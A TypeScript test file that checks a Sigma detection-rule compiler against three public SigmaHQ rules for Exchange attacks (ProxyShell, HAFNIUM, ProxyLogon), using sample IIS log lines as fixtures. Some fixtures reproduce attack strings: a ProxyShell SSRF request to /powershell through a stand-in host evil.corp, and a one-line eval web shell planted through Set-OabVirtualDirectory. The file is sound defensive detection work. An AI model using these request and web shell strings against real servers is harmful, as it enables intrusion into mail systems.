// Rules from the public Sigma repository, as published, on records shaped like the logs they were written for.
// Source: github.com/SigmaHQ/sigma (Detection Rule License 1.1), files named in each test, read 2026 at commit
// 08b3fd5fec8c60f4b2dbfca56d5ba9079ad12268 (web rules) and 0312c481d96b833b41440a12f55d56d9f51b4222 (OAB rule).

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileRules } from './rule-file.js';
import type { CompiledRule, FieldAccess } from './types.js';

const PROXYSHELL = `title: Exchange ProxyShell Pattern
id: 23eee45e-933b-49f9-ae1b-df706d2d52ef
status: test
description: Detects URL patterns that could be found in ProxyShell exploitation attempts against Exchange servers (failed and successful)
references:
    - https://youtu.be/5mqid-7zp8k?t=2231
    - https://blog.orange.tw/2021/08/proxylogon-a-new-attack-surface-on-ms-exchange-part-1.html
    - https://peterjson.medium.com/reproducing-the-proxyshell-pwn2own-exploit-49743a4ea9a1
author: Florian Roth (Nextron Systems), Rich Warren
date: 2021-08-07
modified: 2023/01/02
tags:
    - attack.initial_access
    - attack.t1190
    - detection.emerging-threats
logsource:
    category: webserver
detection:
    selection_1:
        sc-status: 401
    selection_1_auto:
        cs-uri-query|contains: '/autodiscover.json'
    selection_1_uri:
        cs-uri-query|contains:
            - '/powershell'
            - '/mapi/nspi'
            - '/EWS'
            - 'X-Rps-CAT'
    selection_poc:
        sc-status: 401
        cs-uri-query|contains:
            # since we don't know how it will appear in the log files, we'll just use all versions
            - 'autodiscover.json?@'
            - 'autodiscover.json%3f@'
            - '%3f@foo.com'
            - 'Email=autodiscover/autodiscover.json'
            - 'json?@foo.com'
    condition: all of selection_1* or selection_poc
falsepositives:
    - Unknown
level: high
`;

const HAFNIUM = `title: Exchange Exploitation Used by HAFNIUM
id: 67bce556-312f-4c81-9162-c3c9ff2599b2
status: test
description: Detects exploitation attempts in Exchange server logs as described in blog posts reporting on HAFNIUM group activity
references:
    - https://www.volexity.com/blog/2021/03/02/active-exploitation-of-microsoft-exchange-zero-day-vulnerabilities/
    - https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-exchange-servers/
author: Florian Roth (Nextron Systems)
date: 2021-03-03
modified: 2023/01/02
tags:
    - attack.initial_access
    - attack.t1190
    - attack.g0125
    - detection.emerging-threats
logsource:
    category: webserver
detection:
    selection_1:
        cs-method: 'POST'
        cs-uri-query|contains: '/owa/auth/Current/themes/resources/'
    selection_2:
        cs-method: 'POST'
        cs-uri-query|contains: '/owa/auth/Current/'
        cs-user-agent:
            - 'DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)'
            - 'facebookexternalhit/1.1+(+http://www.facebook.com/externalhit_uatext.php)'
            - 'Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)'
            - 'Mozilla/5.0+(compatible;+Bingbot/2.0;++http://www.bing.com/bingbot.htm)'
            - 'Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html'
            - 'Mozilla/5.0+(compatible;+Konqueror/3.5;+Linux)+KHTML/3.5.5+(like+Gecko)+(Exabot-Thumbnails)'
            - 'Mozilla/5.0+(compatible;+Yahoo!+Slurp;+http://help.yahoo.com/help/us/ysearch/slurp)'
            - 'Mozilla/5.0+(compatible;+YandexBot/3.0;++http://yandex.com/bots)'
            - 'Mozilla/5.0+(X11;+Linux+x86_64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/51.0.2704.103+Safari/537.36'
    selection_3:
        cs-uri-query|contains: '/ecp/'
        cs-method: 'POST'
        cs-user-agent:
            - 'ExchangeServicesClient/0.0.0.0'
            - 'python-requests/2.19.1'
            - 'python-requests/2.25.1'
    selection_4:
        cs-uri-query|contains:
            - '/aspnet_client/'
            - '/owa/'
        cs-method: 'POST'
        cs-user-agent:
            - 'antSword/v2.1'
            - 'Googlebot/2.1+(+http://www.googlebot.com/bot.html)'
            - 'Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)'
    selection_5:
        cs-uri-query|contains:
            - '/owa/auth/Current/'
            - '/ecp/default.flt'
            - '/ecp/main.css'
        cs-method: 'POST'
    selection_6:
        cs-method: 'POST'
        cs-uri-query|contains|all:
            - '/ecp/'
            - '.js'
    condition: 1 of selection_*
falsepositives:
    - Legitimate access to other web applications that use the same folder names as Exchange (e.g. owa, ecp) but are not Microsoft Exchange related
level: high
`;

const OAB = `title: ProxyLogon MSExchange OabVirtualDirectory
id: 550d3350-bb8a-4ff3-9533-2ba533f4a1c0
status: test
description: Detects specific patterns found after a successful ProxyLogon exploitation in relation to a Commandlet invocation of Set-OabVirtualDirectory
references:
    - https://bi-zone.medium.com/hunting-down-ms-exchange-attacks-part-1-proxylogon-cve-2021-26855-26858-27065-26857-6e885c5f197c
author: Florian Roth
date: 2021/08/09
modified: 2023/01/23
tags:
    - attack.t1587.001
    - attack.resource_development
logsource:
    product: windows
    service: msexchange-management
detection:
    keywords_cmdlet:
        '|all':
            - 'OabVirtualDirectory'
            - ' -ExternalUrl '
    keywords_params:
        - 'eval(request'
        - 'http://f/<script'
        - '"unsafe"};'
        - 'function Page_Load()'
    condition: keywords_cmdlet and keywords_params
falsepositives:
    - Unlikely
level: critical
`;

const IIS_FIELDS =
  'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'.split(
    ' ',
  );
/** Sigma's web field names are IIS's, except the user agent. */
const SIGMA_TO_IIS: Record<string, string> = { 'cs-user-agent': 'cs(User-Agent)' };

/** Reads an IIS W3C line the way a reader would: split on spaces, `-` is empty, `+` in the user agent is a space. */
function iis(line: string): FieldAccess & { raw: string } {
  const values = line.split(' ');
  const byName = new Map(IIS_FIELDS.map((f, i) => [f, values[i] === '-' ? '' : (values[i] ?? '')]));
  return {
    raw: line,
    get: (f) => byName.get(SIGMA_TO_IIS[f] ?? f),
    text: () => line,
  };
}

function only(text: string): CompiledRule {
  const { rules, errors } = compileRules(text, 'public.yml');
  assert.deepEqual(errors, []);
  assert.equal(rules.length, 1);
  return rules[0] as CompiledRule;
}

function passesPrefilter(rule: CompiledRule, raw: string): boolean {
  const lower = raw.toLowerCase();
  return rule.literals === null || rule.literals.some((l) => lower.includes(l));
}

void test('ProxyShell pattern (rules-emerging-threats/2021/Exploits/ProxyShell-Exploit/web_exchange_proxyshell.yml)', () => {
  const rule = only(PROXYSHELL);
  assert.equal(rule.rule.level, 'high');
  assert.deepEqual(rule.rule.logsource, { category: 'webserver' });
  assert.deepEqual(rule.fields, ['sc-status', 'cs-uri-query']);
  assert.deepEqual(rule.literals, ['@foo.com', 'autodiscover.json']);
  // The shape of the Velociraptor test line: the SSRF through autodiscover.json to /powershell, refused with 401.
  const hit = iis(
    '2021-08-10 02:10:11 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=8a0b1c2d; 443 - 203.0.113.9 python-requests/2.25.1 - 401 0 0 15',
  );
  assert.equal(hit.get('cs-uri-query')?.startsWith('@evil.corp/powershell'), true);
  assert.equal(rule.match(hit), true);
  assert.equal(passesPrefilter(rule, hit.raw), true);
  // Near misses: the same request answered 200 (the _successful rule's business), and a plain autodiscover POST.
  assert.equal(rule.match(iis(hit.raw.replace(' 401 0 0 ', ' 200 0 0 '))), false);
  const plain = iis(
    '2021-08-10 02:10:12 10.0.0.5 POST /autodiscover/autodiscover.xml &CorrelationID=<empty>;&cafeReqId=1; 443 - 10.0.0.7 Microsoft+Office/16.0 - 401 1 2148074254 0',
  );
  assert.equal(rule.match(plain), false);
});

void test('HAFNIUM exploitation (rules-emerging-threats/2021/TA/HAFNIUM/web_exchange_exploitation_hafnium.yml)', () => {
  const rule = only(HAFNIUM);
  assert.deepEqual(rule.fields, ['cs-method', 'cs-uri-query', 'cs-user-agent']);
  // Every selection needs POST, so every match contains "post"; the longer URL pieces are the better filter.
  assert.ok(rule.literals !== null && rule.literals.length > 0);
  const hit = iis(
    '2021-03-03 01:02:03 10.0.0.5 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=1;/ecp/y.js 443 - 198.51.100.4 ExchangeServicesClient/0.0.0.0 - 200 0 0 20',
  );
  assert.equal(rule.match(hit), true);
  assert.equal(passesPrefilter(rule, hit.raw), true);
  const crawler = iis(
    '2021-03-03 01:02:04 10.0.0.5 POST /owa/auth/Current/x.aspx /owa/auth/Current/x.aspx 443 - 198.51.100.4 DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html) - 200 0 0 20',
  );
  assert.equal(rule.match(crawler), true);
  assert.equal(passesPrefilter(rule, crawler.raw), true);
  const get = iis(hit.raw.replace(' POST ', ' GET '));
  assert.equal(rule.match(get), false);
  const owaLogin = iis('2021-03-03 01:02:05 10.0.0.5 POST /owa/auth.owa &CorrelationID=<empty>; 443 - 10.0.0.8 Mozilla/5.0+(Windows+NT+10.0) - 302 0 0 20');
  assert.equal(rule.match(owaLogin), false);
});

void test('ProxyLogon OAB virtual directory keywords (rules/windows/builtin/msexchange/win_exchange_proxylogon_oabvirtualdir.yml)', () => {
  const rule = only(OAB);
  assert.deepEqual(rule.rule.logsource, { product: 'windows', service: 'msexchange-management' });
  assert.deepEqual(rule.fields, []);
  const event = (text: string): FieldAccess => ({ get: () => undefined, text: () => text });
  const hit =
    'Cmdlet Set-OabVirtualDirectory -ExternalUrl "http://f/<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request[\\"klk123456\\"],\\"unsafe\\");}</script>" -Identity "OAB (Default Web Site)"';
  assert.equal(rule.match(event(hit)), true);
  assert.equal(passesPrefilter(rule, hit), true);
  assert.equal(rule.match(event('Cmdlet Set-OabVirtualDirectory -ExternalUrl "https://mail.example.org/OAB" -Identity "OAB (Default Web Site)"')), false);
  assert.equal(rule.match(event('Set-OabVirtualDirectory -InternalUrl "http://f/<script"')), false);
});
